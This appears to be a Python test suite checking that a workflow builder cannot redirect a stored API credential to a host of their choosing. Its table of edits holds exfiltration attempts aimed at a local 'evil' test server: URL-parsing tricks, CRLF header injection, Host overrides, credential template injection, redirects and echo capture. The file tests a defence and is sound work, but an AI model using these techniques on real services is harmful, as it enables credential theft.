"""A builder without workflow:secrets edits whatever there is, and the credential still goes to its own host alone."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from sqlalchemy.orm import Session

from app.connectors.egress import EgressPolicy
from app.connectors.http import HttpClient
from app.connectors.perform import perform
from app.crypto import KeyRing
from app.domain.runs.calls import Order
from app.domain.workflows.definition import parse_definition
from app.errors import Invalid, NotAllowed
from app.models import Application, Connection
from app.permissions import Actor
from app.schemas.base import parse
from app.schemas.connections import ConnectionIn, ConnectionPatch, CredentialIn
from app.schemas.workflows import VersionIn
from app.services import connection_test, connections, credentials, workflows
from tests.support.factories import NOW, http_step, make_application, make_connection, make_workflow
from tests.support.target import Answer, Call, Target, running_target

pytestmark = pytest.mark.sqlite_only

SECRET = "canary-5f1d-secret"
SIGNING = "whsec_" + "QUJD" * 8


@dataclass
class Scene:
    """The credential's own host, a host of the builder's choosing, and the builder at work."""

    session: Session
    builder: Actor
    keyring: KeyRing
    client: HttpClient
    own: Target
    evil: Target
    application: Application
    connection: Connection

    def patch(self, **config: object) -> None:
        """Change the connection as the builder."""
        with self.session.begin_nested():
            connections.change_connection(
                self.session,
                self.builder,
                self.connection,
                parse(ConnectionPatch, {"config": config}),
                now=NOW,
            )

    def save(self, *steps: dict[str, Any]) -> None:
        """Save steps as the builder, and make their calls with what each captures at hand for the next."""
        workflow = make_workflow(self.session, self.application, trigger="access_granted", deleted_at=None)
        with self.session.begin_nested():
            workflows.save_version(
                self.session, self.builder, workflow, VersionIn(steps=list(steps)), now=NOW
            )
        self.make_calls(*steps)

    def make_calls(self, *steps: dict[str, Any]) -> None:
        definition, _ = parse_definition(list(steps))
        assert definition is not None
        captured: dict[str, Any] = {}
        for step in definition.steps:
            row = self.session.get_one(Connection, int(step.connection_id))  # type: ignore[union-attr]
            context = {"steps": captured, "grantee": {"email": "ada@example.org"}}
            order = Order(1, 1, 1, step, "k", context, connection_test.prepare(row).connection)  # type: ignore[arg-type]
            captured[step.key] = dict(perform(order, self.client, self.keyring).outcome.captured)

    def probe(self) -> None:
        plan = connection_test.prepare(self.connection)
        if plan.connection.type == "http":
            connection_test.probe(plan, self.client, self.keyring)

    def own_step(self, **more: Any) -> dict[str, Any]:
        return http_step("call", self.connection.id, body=None, idempotent=True) | more

    def hook(self) -> Connection:
        """A webhook of the builder's own, with a signing secret of their own."""
        return make_connection(
            self.session,
            self.application,
            type="webhook",
            config={"url": self.evil.url},
        )


@pytest.fixture
def scene(session: Session, admin: Actor, builder: Actor, keyring: KeyRing) -> Iterator[Scene]:
    with running_target() as own, running_target() as evil:
        client = HttpClient(EgressPolicy("127.0.0.1"))
        application = make_application(session)
        config = {"base_url": f"{own.url}/v1", "auth": "bearer", "timeout_seconds": 5, "health_path": "/ok"}
        connection = make_connection(session, application, config=config)
        value = CredentialIn(value=SECRET)
        credentials.set_credential(session, admin, connection, value, keyring, now=NOW)
        yield Scene(session, builder, keyring, client, own, evil, application, connection)
        client.close()


def host_of(scene: Scene) -> str:
    return scene.evil.url.removeprefix("http://")


def echo(call: Call) -> Answer:
    """A system that repeats what it was sent, as many do for debugging."""
    return Answer(200, {"headers": call.headers, "got": call.headers.get("authorization", "")})


def copy_to_another_application(scene: Scene) -> None:
    scene.application = make_application(scene.session)
    scene.save(scene.own_step())


def copy_past_the_checks(scene: Scene) -> None:
    """The same row in another application: it is the ciphertext that does not open there."""
    other = make_connection(
        scene.session,
        make_application(scene.session),
        config=scene.connection.config | {"base_url": scene.evil.url},
    )
    sealed = scene.connection.credential
    assert sealed is not None
    plan = connection_test.prepare(other)
    stolen = connection_test.prepare(scene.connection).connection.sealed
    data = type(plan.connection)(other.id, other.application_id, "http", "x", other.config, stolen)
    result = connection_test.probe(connection_test.TestPlan(data), scene.client, scene.keyring)
    assert result.failure == "configuration"


def capture_an_echo(scene: Scene, source: str) -> None:
    scene.own.answer = echo
    hook = scene.hook()
    tell = {
        "key": "tell",
        "type": "webhook",
        "connection_id": str(hook.id),
        "body": {"x": "{{ steps.call.got }}"},
    }
    scene.save(scene.own_step(capture={"got": source}), tell)


def delete_and_make_again(scene: Scene) -> None:
    name = scene.connection.name
    connections.delete_connection(scene.session, scene.builder, scene.connection, now=NOW)
    scene.session.flush()
    data = {"type": "http", "name": name, "config": {"base_url": scene.evil.url, "auth": "bearer"}}
    scene.connection = connections.create_connection(
        scene.session, scene.builder, scene.application, parse(ConnectionIn, data), now=NOW
    )
    scene.session.flush()


def redirected(scene: Scene, status: int) -> None:
    scene.own.answer = lambda _call: Answer(status, None, {"Location": f"{scene.evil.url}/take"})
    scene.make_calls(scene.own_step(), scene.own_step(key="get", method="GET"))


def detour(scene: Scene) -> None:
    """Take the address through OAuth's token URL: a change of address like any other."""
    scene.patch(auth="oauth2_client_credentials", token_url=f"{scene.evil.url}/t", client_id="c")


# What the builder tries, and whether it is refused. Whatever is not refused must be harmless.
EDITS: dict[str, tuple[Callable[[Scene], None], type[Exception] | None]] = {
    "base URL": (lambda s: s.patch(base_url=s.evil.url), NotAllowed),
    "base URL, other path": (lambda s: s.patch(base_url=f"{s.own.url}/v2"), NotAllowed),
    "base URL, other port": (lambda s: s.patch(base_url="http://127.0.0.1:1/v1"), NotAllowed),
    "base URL, user name": (lambda s: s.patch(base_url=f"http://127.0.0.1@{host_of(s)}/"), Invalid),
    "base URL, backslash": (lambda s: s.patch(base_url=f"{s.own.url}\\@{host_of(s)}/"), Invalid),
    "base URL, fragment": (lambda s: s.patch(base_url=f"{s.evil.url}#{s.own.url}"), Invalid),
    "base URL removed": (lambda s: s.patch(base_url=None), Invalid),
    "base URL and auth": (lambda s: s.patch(base_url=s.evil.url, auth="none"), NotAllowed),
    "token URL by way of OAuth": (detour, NotAllowed),
    "health path, two slashes": (lambda s: s.patch(health_path=f"//{host_of(s)}/x"), None),
    "health path, at sign": (lambda s: s.patch(health_path=f"@{host_of(s)}/x"), Invalid),
    "health path, whole address": (lambda s: s.patch(health_path=f"{s.evil.url}/x"), Invalid),
    "health path, backslash": (lambda s: s.patch(health_path=f"/\\{host_of(s)}"), Invalid),
    "default header Host": (lambda s: s.patch(headers={"Host": host_of(s)}), Invalid),
    "default header, line break": (lambda s: s.patch(headers={"X-A": f"x\r\nHost: {host_of(s)}"}), Invalid),
    "default header Forwarded": (lambda s: s.patch(headers={"X-Forwarded-Host": host_of(s)}), None),
    "key in the header Host": (lambda s: s.patch(auth="api_key", api_key_header="Host"), Invalid),
    "key in another header": (lambda s: s.patch(auth="api_key", api_key_header="X-Mine"), None),
    "path, two slashes": (lambda s: s.save(s.own_step(path=f"//{host_of(s)}/x")), Invalid),
    "path, at sign": (lambda s: s.save(s.own_step(path=f"@{host_of(s)}/x")), Invalid),
    "path, port": (lambda s: s.save(s.own_step(path=":1/x")), Invalid),
    "path, whole address": (lambda s: s.save(s.own_step(path=f"{s.evil.url}/x")), Invalid),
    "path, backslash": (lambda s: s.save(s.own_step(path=f"/\\{host_of(s)}")), Invalid),
    "path, dots": (lambda s: s.save(s.own_step(path=f"/..//{host_of(s)}")), Invalid),
    "path, inner address": (lambda s: s.save(s.own_step(path=f"/x/http://{host_of(s)}/")), None),
    "header Host": (lambda s: s.save(s.own_step(headers={"Host": host_of(s)})), Invalid),
    "header Authorization": (lambda s: s.save(s.own_step(headers={"Authorization": "x"})), Invalid),
    "query": (lambda s: s.save(s.own_step(query={"url": s.evil.url})), None),
    "token of the credential": (
        lambda s: s.save(s.own_step(body={"x": "{{ connection.credential }}"})),
        Invalid,
    ),
    "token of the connection": (lambda s: s.save(s.own_step(path="/{{ credential }}")), Invalid),
    "copied to another application": (copy_to_another_application, Invalid),
    "ciphertext copied": (copy_past_the_checks, None),
    "echo captured": (lambda s: capture_an_echo(s, "$.got"), None),
    "echo captured whole": (lambda s: capture_an_echo(s, "$.headers.authorization"), None),
    "deleted and made again": (delete_and_make_again, None),
    **{
        f"redirect {status}": (lambda s, status=status: redirected(s, status), None)
        for status in (301, 302, 303, 307, 308)
    },
}


@pytest.mark.parametrize("edit", EDITS)
def test_no_edit_takes_the_credential_elsewhere(scene: Scene, edit: str) -> None:
    make, refusal = EDITS[edit]
    if refusal is not None:
        with pytest.raises(refusal):
            make(scene)
    else:
        make(scene)
    scene.probe()
    scene.make_calls(scene.own_step())
    taken = json.dumps([[call.path, call.headers, call.body] for call in scene.evil.calls])
    assert SECRET not in taken
    assert "authorization" not in taken.lower()


def test_a_webhook_s_address_is_its_holder_s_as_well(scene: Scene, admin: Actor) -> None:
    scene.connection = make_connection(
        scene.session, scene.application, type="webhook", config={"url": f"{scene.own.url}/hook"}
    )
    value = CredentialIn(value=SIGNING)
    credentials.set_credential(scene.session, admin, scene.connection, value, scene.keyring, now=NOW)
    with pytest.raises(NotAllowed):
        scene.patch(url=f"{scene.evil.url}/hook")
    assert scene.connection.config["url"] == f"{scene.own.url}/hook"


def test_an_oauth_connection_s_addresses_are_its_holder_s(scene: Scene, admin: Actor) -> None:
    own, evil = scene.own.url, scene.evil.url
    config = {"base_url": own, "auth": "oauth2_client_credentials", "token_url": f"{own}/t", "client_id": "c"}
    scene.connection = make_connection(scene.session, scene.application, config=config)
    value = CredentialIn(value=SECRET)
    credentials.set_credential(scene.session, admin, scene.connection, value, scene.keyring, now=NOW)
    for change in ({"token_url": f"{evil}/t"}, {"base_url": evil}, {"auth": "bearer", "base_url": evil}):
        with pytest.raises(NotAllowed):
            scene.patch(**change)
    scene.patch(client_auth="post", scope="more")
    scene.own.answer = lambda _call: Answer(307, None, {"Location": f"{evil}/t"})
    scene.make_calls(scene.own_step())
    assert scene.evil.calls == []


def test_with_the_right_the_address_may_be_changed(scene: Scene, admin: Actor) -> None:
    scene.builder = admin
    scene.patch(base_url=f"{scene.own.url}/v2")
    assert scene.connection.config["base_url"].endswith("/v2")


def test_the_credential_does_reach_its_own_host(scene: Scene) -> None:
    scene.probe()
    scene.make_calls(scene.own_step())
    assert [call.headers["authorization"] for call in scene.own.calls] == [f"Bearer {SECRET}"] * 2
